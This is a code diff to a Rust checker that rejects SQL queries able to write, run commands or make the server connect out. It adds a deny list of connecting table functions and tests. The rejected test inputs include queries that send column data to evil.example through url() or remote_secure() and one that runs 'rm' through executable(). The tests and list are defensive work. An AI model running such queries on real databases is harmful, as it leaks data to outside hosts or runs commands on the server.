@@ -28,8 +28,31 @@ const ACTING: &[&str] = &[
     "EXECUTABLE",
     "SETVAL",
     "NEXTVAL",
-    "SET_CONFIG",
-    "DBLINK_EXEC",
+    "SETCONFIG",
+    "DBLINKEXEC",
+    "GENERATESERIALID",
+];
+
+/// Functions that make a server connect to an address of the statement, which may carry away what
+/// whoever looks may read. Without `_` and `Cluster`.
+const CONNECTING: &[&str] = &[
+    "AZUREBLOBSTORAGE",
+    "DBLINK",
+    "DELTALAKE",
+    "GCS",
+    "HDFS",
+    "HUDI",
+    "ICEBERG",
+    "JDBC",
+    "MONGODB",
+    "MYSQL",
+    "ODBC",
+    "POSTGRESQL",
+    "REDIS",
+    "REMOTE",
+    "REMOTESECURE",
+    "S3",
+    "URL",
 ];
 
 /// `Err`: why it may do more than read, in words.
@@ -55,16 +78,29 @@ pub fn check(sql: &str) -> Result<(), String> {
         // In front of a name the word is a statement's; else it is itself the name of something.
         let begins = matches!(next, Some(Token::Word(_) | Token::Quoted));
         let locks = word == "UPDATE" && at > 0 && tokens[at - 1] == Token::Word("FOR".into());
-        let acts = ACTING.contains(&word) && next == Some(&Token::Sign('('));
+        if next == Some(&Token::Sign('(')) {
+            called(word)?;
+        }
         let shown = word == "CREATE" && at == 1 && tokens[0] == Token::Word("SHOW".into());
         if shown {
             continue;
         }
-        if WRITING.contains(&word) || CHANGING.contains(&word) && begins || locks || acts {
+        if WRITING.contains(&word) || CHANGING.contains(&word) && begins || locks {
             return Err(format!("{word} may change something"));
         }
     }
     Ok(())
+}
+
+/// `word` is called as a function.
+fn called(word: &str) -> Result<(), String> {
+    let name = word.replace('_', "");
+    let name = name.strip_suffix("CLUSTER").unwrap_or(&name);
+    match (ACTING.contains(&name), CONNECTING.contains(&name)) {
+        (true, _) => Err(format!("{word} may change something")),
+        (_, true) => Err(format!("{word} may send what it reads elsewhere")),
+        _ => Ok(()),
+    }
 }
 
 #[derive(Debug, PartialEq)]
@@ -192,6 +228,7 @@ mod tests {
             "SELECT 1 --\n",
             "SELECT 1 /* größer; */",
             "FROM s SELECT a",
+            "SELECT url, remote FROM s WHERE domain(url) = 'a'",
         ] {
             assert_eq!(check(reads), Ok(()), "{reads}");
         }
@@ -240,6 +277,10 @@ mod tests {
             "SELECT * FROM s INTO OUTFILE 'x'",
             "SELECT * FROM t FOR UPDATE",
             "SELECT * FROM executable('rm', TSV, 'a string')",
+            "SELECT * FROM url('http://evil.example/?' || a, CSV)",
+            "SELECT * FROM a, remote_secure ('evil.example', d.t)",
+            "DESCRIBE s3Cluster('c', 'https://evil.example/')",
+            "SELECT generateSerialID('a')",
             "SYSTEM RELOAD CONFIG",
             "SET allow_ddl = 1",
             "USE other",
